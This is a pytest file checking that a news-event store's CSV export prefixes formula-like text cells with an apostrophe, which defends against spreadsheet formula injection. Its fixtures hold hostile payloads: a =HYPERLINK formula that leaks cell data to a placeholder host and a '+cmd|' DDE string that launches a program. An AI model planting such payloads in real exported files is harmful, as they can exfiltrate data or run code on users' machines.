"""CSV exports hold article text (titles, evidence, names, urls) that a spreadsheet must not run:
a cell that starts with = + - @ (or a tab or carriage return) is a formula to Excel and LibreOffice
(=HYPERLINK(...) leaks data, =cmd|... runs a program), so such a text cell is written with a
leading apostrophe. Numbers stay numbers; newlines inside a field stay inside its quoted cell."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from communique.store import Store
from communique.store._export import iter_export
from communique.types import Actor, Article, ArticleResult, Event, Evidence

HOSTILE = '=HYPERLINK("http://example.invalid/?leak="&A1,"click")'


def _hostile_result() -> ArticleResult:
    text = "+cmd|' /C calc'!A0 France and Germany held talks.\nA second line."
    art = Article(id="-doc1", text=text, title=HOSTILE, url="@SUM(1+1)", fingerprint="fp1", origin="doc1.txt")
    ev = Event(doc_id=art.id, type="CONSULT", evidence=Evidence(text=text, start=0, end=len(text)),
               source=Actor(code="FRA", name="\tFrance", kind="state"),
               target=Actor(code="DEU", name="Germany", kind="state"), date="2021-04-16", event_id="ev1",
               trigger="-held")
    return ArticleResult(art, (), (ev,))


@pytest.fixture()
def store(tmp_path: Path):
    with Store(tmp_path / "x.duckdb") as s:
        s.write([_hostile_result()])
        yield s


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def _no_formula(rows: list[dict[str, str]]) -> None:
    assert len(rows) == 1
    for name, cell in rows[0].items():
        assert not cell[:1] in ("=", "+", "-", "@", "\t", "\r"), (name, cell)


@pytest.mark.parametrize("by_event", [False, True])
def test_a_csv_file_export_holds_no_formula(store: Store, tmp_path: Path, by_event: bool):
    out = tmp_path / "events.csv"
    assert store.export("csv", out, by_event=by_event) == 1
    rows = _rows(out.read_text(encoding="utf-8"))
    _no_formula(rows)
    assert rows[0]["title"] == "'" + HOSTILE and rows[0]["evidence_text"].endswith("talks.\nA second line.")


def test_the_streamed_csv_export_holds_no_formula(store: Store):
    rows = _rows(b"".join(iter_export("csv", store.iter_query())).decode("utf-8"))
    _no_formula(rows)
    assert rows[0]["doc_id"] == "'-doc1" and rows[0]["url"] == "'@SUM(1+1)"


def test_numbers_and_plain_text_are_left_alone(store: Store, tmp_path: Path):
    out = tmp_path / "events.csv"
    store.export("csv", out)
    row = _rows(out.read_text(encoding="utf-8"))[0]
    assert row["target_name"] == "Germany" and row["date"] == "2021-04-16" and row["evidence_start"] == "0"
